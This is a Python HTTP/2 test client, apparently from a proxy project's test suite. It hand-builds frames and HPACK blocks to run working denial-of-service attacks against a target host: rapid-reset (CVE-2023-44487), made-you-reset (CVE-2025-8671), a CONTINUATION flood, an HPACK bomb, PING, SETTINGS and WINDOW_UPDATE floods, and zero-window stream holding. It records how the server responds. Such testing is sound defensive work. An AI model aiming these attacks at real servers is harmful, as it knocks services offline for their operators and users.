#!/usr/bin/env python3
"""Raw HTTP/2 (h2c, prior knowledge) client for Sluice's HTTP/2 tests: the known attacks, and a
plain multi-stream client whose every frame is recorded.

No third-party packages: frames are built by hand (RFC 9113 4.1: 3-byte length, type, flags,
4-byte stream id) and header blocks use only HPACK forms that need no Huffman coding (RFC 7541:
0x00 literal without indexing / new name, 0x40 literal with incremental indexing / new name,
0x80|i indexed). Prints one JSON line:

  {"mode", "closed": the server closed the connection, "goaway": error code of a GOAWAY read
   (null if none), "goaway_last_stream", "seconds": from the first frame sent to the close (or to
   the end of the run), "sent": attack units sent, "rst_received", "streams": {id: {...}}}

Modes (see --help): rapid-reset, continuation, hpack-bomb, ping-flood, settings-flood,
window-update-flood, zero-window, made-you-reset (requests the server is made to reset), hang-up (requests then the write side closed at once, on
--count connections), requests (a well-behaved client: SETTINGS acknowledged, a
WINDOW_UPDATE for the stream and the connection per DATA frame received).
"""
import argparse
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
CANCEL = 0x8

# HPACK static table entries for :status (RFC 7541 Appendix A).
STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
# Huffman codes of the ten digits (RFC 7541 Appendix B): enough to read a :status value.
HUFFMAN_DIGITS = {(0x0, 5): "0", (0x1, 5): "1", (0x2, 5): "2", (0x19, 6): "3", (0x1A, 6): "4",
                  (0x1B, 6): "5", (0x1C, 6): "6", (0x1D, 6): "7", (0x1E, 6): "8", (0x1F, 6): "9"}


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first):
    """RFC 7541 5.1 integer with an N-bit prefix; `first` holds the pattern bits above it."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(s):
    b = s.encode() if isinstance(s, str) else s
    return hpack_int(len(b), 7, 0x00) + b


def literal(name, value, indexing=False):
    """Literal field with a new name: 0x40 (incremental indexing) or 0x00 (without indexing)."""
    return bytes([0x40 if indexing else 0x00]) + hpack_string(name) + hpack_string(value)


def request_block(path, authority, method="GET", extra=()):
    block = literal(":method", method) + literal(":scheme", "http") + literal(":authority", authority) + literal(":path", path)
    for name, value in extra:
        block += literal(name, value)
    return block


def huffman_digits(data):
    """Decodes a Huffman-coded string of digits (None if it is anything else)."""
    bits = "".join(format(b, "08b") for b in data)
    out, i = "", 0
    while i < len(bits):
        for n in (5, 6):
            if i + n <= len(bits) and (int(bits[i:i + n], 2), n) in HUFFMAN_DIGITS:
                out += HUFFMAN_DIGITS[(int(bits[i:i + n], 2), n)]
                i += n
                break
        else:
            rest = bits[i:]
            return out if len(rest) < 8 and set(rest) <= {"1"} else None
    return out


def read_int(block, i, prefix_bits):
    """RFC 7541 5.1: (value, next index)."""
    limit = (1 << prefix_bits) - 1
    value = block[i] & limit
    i += 1
    if value < limit:
        return value, i
    shift = 0
    while i < len(block):
        b = block[i]
        i += 1
        value += (b & 0x7F) << shift
        shift += 7
        if not b & 0x80:
            break
    return value, i


def read_string(block, i):
    """(bytes, huffman, next index)."""
    huff = bool(block[i] & 0x80)
    n, i = read_int(block, i, 7)
    return block[i:i + n], huff, i + n


def status_value(raw, huff):
    text = huffman_digits(raw) if huff else raw.decode("latin-1")
    return int(text) if text and text.isdigit() else None


def status_of(block, table):
    """The :status of a response header block. `table` is the connection's HPACK dynamic table
    as far as this client follows it: per entry, the status when the entry is a :status field,
    else None (values of other fields are not decoded; entries are never evicted, which holds
    for the few small responses a test reads)."""
    status, i = None, 0
    try:
        while i < len(block):
            b = block[i]
            if b & 0x80:  # indexed
                idx, i = read_int(block, i, 7)
                st = STATIC_STATUS.get(idx) if idx < 62 else (table[idx - 62] if idx - 62 < len(table) else None)
                status = status if status is not None else st
                continue
            if b & 0xE0 == 0x20:  # dynamic table size update
                size, i = read_int(block, i, 5)
                if size == 0:
                    table.clear()
                continue
            indexing = b & 0xC0 == 0x40
            idx, i = read_int(block, i, 6 if indexing else 4)
            if idx == 0:
                name, _, i = read_string(block, i)
                is_status = name == b":status"
            else:
                is_status = 8 <= idx <= 14 or (idx >= 62 and idx - 62 < len(table) and table[idx - 62] is not None)
            raw, huff, i = read_string(block, i)
            st = status_value(raw, huff) if is_status else None
            if is_status and status is None:
                status = st
            if indexing:
                table.insert(0, st if is_status else None)
    except IndexError:
        pass
    return status


class Conn:
    def __init__(self, host, port, auto_window=True, ack_settings=True):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.inbuf = bytearray()
        self.out = bytearray()
        self.closed = False
        self.goaway = None
        self.goaway_last = None
        self.goaway_at = None
        self.rst_received = 0
        self.frames_received = 0
        self.streams = {}
        self.hpack_table = []
        self.auto_window = auto_window
        self.ack_settings = ack_settings
        self.t0 = time.monotonic()
        self.closed_at = None

    def now(self):
        return round(time.monotonic() - self.t0, 3)

    def stream(self, sid):
        return self.streams.setdefault(sid, {"status": None, "headers": 0, "data": 0, "ended": False, "reset": None,
                                             "t_headers": None, "t_end": None, "body_head": ""})

    def queue(self, data):
        self.out += data

    def mark_closed(self):
        if not self.closed:
            self.closed = True
            self.closed_at = self.now()

    def pump(self, wait=0.0):
        """Sends what the socket takes, reads what is there (waiting up to `wait` seconds)."""
        if self.closed:
            return
        try:
            r, w, _ = select.select([self.sock], [self.sock] if self.out else [], [], wait)
        except (OSError, ValueError):
            self.mark_closed()
            return
        if w and self.out:
            try:
                n = self.sock.send(self.out)
                del self.out[:n]
            except BlockingIOError:
                pass
            except OSError:
                # The server closed (or reset) the connection: what it sent before is still read.
                self.out.clear()
                self.read_all()
                self.mark_closed()
                return
        if r:
            self.read_once()

    def read_once(self):
        """One recv; False when the connection is over."""
        try:
            data = self.sock.recv(1 << 20)
        except BlockingIOError:
            return True
        except OSError:
            self.mark_closed()
            return False
        if data == b"":
            self.mark_closed()
            return False
        self.inbuf += data
        self.parse()
        return True

    def read_all(self):
        """Reads whatever the server sent before it closed."""
        for _ in range(1000):
            try:
                r, _, _ = select.select([self.sock], [], [], 0.05)
            except (OSError, ValueError):
                return
            if not r or not self.read_once():
                return

    def parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.inbuf[9:9 + length])
            del self.inbuf[:9 + length]
            self.frames_received += 1
            self.handle(ftype, flags, sid, payload)

    def handle(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & ACK and self.ack_settings:
            self.queue(frame(SETTINGS, ACK, 0))
        elif ftype == GOAWAY and len(payload) >= 8:
            self.goaway_last = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
            self.goaway = int.from_bytes(payload[4:8], "big")
            self.goaway_at = self.goaway_at if self.goaway_at is not None else self.now()
        elif ftype == RST_STREAM:
            self.rst_received += 1
            s = self.stream(sid)
            s["reset"] = int.from_bytes(payload[0:4], "big") if len(payload) >= 4 else -1
            s["t_end"] = s["t_end"] or self.now()
        elif ftype in (HEADERS, CONTINUATION):
            s = self.stream(sid)
            block = payload
            if ftype == HEADERS:
                if flags & PADDED:
                    pad = block[0]
                    block = block[1:len(block) - pad]
                if flags & PRIORITY_FLAG:
                    block = block[5:]
                st = status_of(block, self.hpack_table)
                if s["status"] is None or (st is not None and s["status"] < 200):
                    s["status"] = st if st is not None else s["status"]
                s["headers"] += 1
                s["t_headers"] = s["t_headers"] or self.now()
            if flags & END_STREAM:
                s["ended"] = True
                s["t_end"] = self.now()
        elif ftype == DATA:
            s = self.stream(sid)
            s["data"] += len(payload)
            if len(s["body_head"]) < 64:
                s["body_head"] += payload[:64 - len(s["body_head"])].decode("latin-1")
            if flags & END_STREAM:
                s["ended"] = True
                s["t_end"] = self.now()
            if self.auto_window and payload:
                inc = struct.pack(">I", len(payload))
                self.queue(frame(WINDOW_UPDATE, 0, 0, inc))
                if not flags & END_STREAM:
                    self.queue(frame(WINDOW_UPDATE, 0, sid, inc))

    def flush(self, seconds):
        end = time.monotonic() + seconds
        while self.out and not self.closed and time.monotonic() < end:
            self.pump(0.05)

    def wait_closed(self, seconds):
        """Reads until the server closes the connection or `seconds` pass."""
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            self.pump(min(0.1, max(0.0, end - time.monotonic())))

    def result(self, mode, sent, **extra):
        r = {"mode": mode, "closed": self.closed, "goaway": self.goaway, "goaway_last_stream": self.goaway_last,
             "goaway_at": self.goaway_at,
             "seconds": self.closed_at if self.closed_at is not None else self.now(), "sent": sent,
             "rst_received": self.rst_received, "frames_received": self.frames_received,
             "streams": {str(k): v for k, v in sorted(self.streams.items())}}
        r.update(extra)
        return r


def start(args, settings=b"", **kw):
    c = Conn(args.host, args.port, **kw)
    c.queue(PREFACE + frame(SETTINGS, 0, 0, settings))
    return c


def flood(c, count, unit, deadline):
    """Queues `unit(i)` for i in 0..<count as fast as the socket takes it, reading as it goes."""
    sent = 0
    while sent < count and not c.closed and time.monotonic() < deadline:
        if len(c.out) < (1 << 16):
            for _ in range(64):
                if sent >= count:
                    break
                c.queue(unit(sent))
                sent += 1
        c.pump(0)
    return sent


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["rapid-reset", "continuation", "hpack-bomb", "ping-flood", "settings-flood",
                                    "window-update-flood", "zero-window", "requests", "hang-up", "made-you-reset"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--authority", default="h2.test")
    p.add_argument("--count", type=int, default=10000, help="attack units to send at most")
    p.add_argument("--refs", type=int, default=8000, help="hpack-bomb: indexed references to the big field")
    p.add_argument("--value-size", type=int, default=4000, help="hpack-bomb: size of the indexed value")
    p.add_argument("--streams", type=int, default=10, help="zero-window: streams to open")
    p.add_argument("--path", action="append", default=[], help="request path (repeatable)")
    p.add_argument("--gap", type=float, default=0.0, help="requests: seconds between two requests")
    p.add_argument("--until-close", action="store_true", help="requests: read until the server closes")
    p.add_argument("--open", action="store_true", help="hpack-bomb, requests: HEADERS without END_STREAM (the request stays open)")
    p.add_argument("--timeout", type=float, default=20.0, help="seconds to wait for the outcome")
    args = p.parse_args()
    deadline = time.monotonic() + args.timeout
    block = request_block((args.path or ["/"])[0], args.authority)

    if args.mode == "rapid-reset":
        # CVE-2023-44487: open a stream, cancel it at once, repeat.
        c = start(args)
        sent = flood(c, args.count, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block)
                     + frame(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", CANCEL)), deadline)
        c.wait_closed(max(0.0, deadline - time.monotonic()))
        out = c.result(args.mode, sent)
    elif args.mode == "made-you-reset":
        # CVE-2025-8671: the client never sends RST_STREAM; each request is followed by a frame
        # that makes the server reset the stream itself, after its exchange started: HEADERS
        # announcing content-length 2, then one byte of DATA with END_STREAM (a stream error,
        # PROTOCOL_ERROR, for nghttp2's HTTP messaging rules).
        c = start(args)
        announced = request_block((args.path or ["/"])[0], args.authority, method="POST", extra=[("content-length", "2")])
        sent = flood(c, args.count, lambda i: frame(HEADERS, END_HEADERS, 1 + 2 * i, announced)
                     + frame(DATA, END_STREAM, 1 + 2 * i, b"x"), deadline)
        c.wait_closed(max(0.0, deadline - time.monotonic()))
        out = c.result(args.mode, sent)
    elif args.mode == "continuation":
        # HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.
        c = start(args)
        c.queue(frame(HEADERS, END_STREAM, 1, block))
        piece = literal("x-continuation", "v" * 100)
        sent = flood(c, args.count, lambda i: frame(CONTINUATION, 0, 1, piece), deadline)
        c.wait_closed(max(0.0, deadline - time.monotonic()))
        out = c.result(args.mode, sent)
    elif args.mode == "hpack-bomb":
        # One big field enters the dynamic table (index 62), then 1-byte references to it.
        c = start(args)
        bomb = block + literal("x-bomb", "a" * args.value_size, indexing=True) + bytes([0x80 | 62]) * args.refs
        first, rest = bomb[:16384], bomb[16384:]
        frames = []
        frames.append(frame(HEADERS, (0 if args.open else END_STREAM) | (0 if rest else END_HEADERS), 1, first))
        while rest:
            part, rest = rest[:16384], rest[16384:]
            frames.append(frame(CONTINUATION, 0 if rest else END_HEADERS, 1, part))
        for f in frames:
            c.queue(f)
        c.flush(max(0.0, deadline - time.monotonic()))
        c.wait_closed(max(0.0, deadline - time.monotonic()))
        out = c.result(args.mode, 1, decoded_bytes=args.refs * (6 + args.value_size + 32), wire_bytes=len(bomb))
    elif args.mode == "ping-flood":
        c = start(args)
        sent = flood(c, args.count, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), deadline)
        c.wait_closed(max(0.0, deadline - time.monotonic()))
        out = c.result(args.mode, sent)
    elif args.mode == "settings-flood":
        c = start(args)
        sent = flood(c, args.count, lambda i: frame(SETTINGS, 0, 0), deadline)
        c.wait_closed(max(0.0, deadline - time.monotonic()))
        out = c.result(args.mode, sent)
    elif args.mode == "window-update-flood":
        # WINDOW_UPDATE frames (connection level, +1 each) with nothing being downloaded.
        c = start(args)
        sent = flood(c, args.count, lambda i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), deadline)
        c.wait_closed(max(0.0, deadline - time.monotonic()))
        out = c.result(args.mode, sent)
    elif args.mode == "zero-window":
        # Streams opened with a zero window and never a WINDOW_UPDATE: no DATA can ever be sent.
        c = start(args, settings=struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0), auto_window=False)
        paths = args.path or ["/"]
        for i in range(args.streams):
            c.queue(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request_block(paths[i % len(paths)], args.authority)))
        c.wait_closed(max(0.0, deadline - time.monotonic()))
        out = c.result(args.mode, args.streams)
    elif args.mode == "hang-up":
        # Each connection: five requests and the end of the connection in the same packet.
        closed, refused, c = 0, 0, None
        for n in range(args.count):
            try:
                c = Conn(args.host, args.port)
            except OSError:
                refused += 1  # the proxy is gone
                break
            data = PREFACE + frame(SETTINGS, 0, 0) + b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * k, request_block((args.path or ["/"])[0], args.authority))
                for k in range(5))
            c.sock.setblocking(True)
            try:
                c.sock.sendall(data)
                c.sock.shutdown(socket.SHUT_WR)
            except OSError:
                pass
            c.sock.setblocking(False)
            c.wait_closed(max(0.0, min(2.0, deadline - time.monotonic())))
            closed += 1 if c.closed else 0
            c.sock.close()
        if c is None:
            print(json.dumps({"mode": args.mode, "closed": True, "goaway": None, "goaway_last_stream": None, "goaway_at": None,
                              "seconds": 0, "sent": 0, "rst_received": 0, "frames_received": 0, "streams": {},
                              "connections_closed": 0, "refused": refused}), flush=True)
            return
        out = c.result(args.mode, n + 1 - refused, connections_closed=closed, refused=refused)
    else:  # requests
        c = start(args)
        paths = args.path or ["/"]
        sids = []
        for i, path in enumerate(paths):
            sid = 1 + 2 * i
            sids.append(sid)
            c.stream(sid)["path"] = path
            c.queue(frame(HEADERS, END_HEADERS | (0 if args.open else END_STREAM), sid, request_block(path, args.authority)))
            if args.gap > 0:
                end = time.monotonic() + args.gap
                while time.monotonic() < end and not c.closed:
                    c.pump(0.02)
        while not c.closed and time.monotonic() < deadline:
            done = all(c.stream(s)["ended"] or c.stream(s)["reset"] is not None for s in sids)
            if done and not args.until_close:
                break
            c.pump(0.05)
        out = c.result(args.mode, len(paths))
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
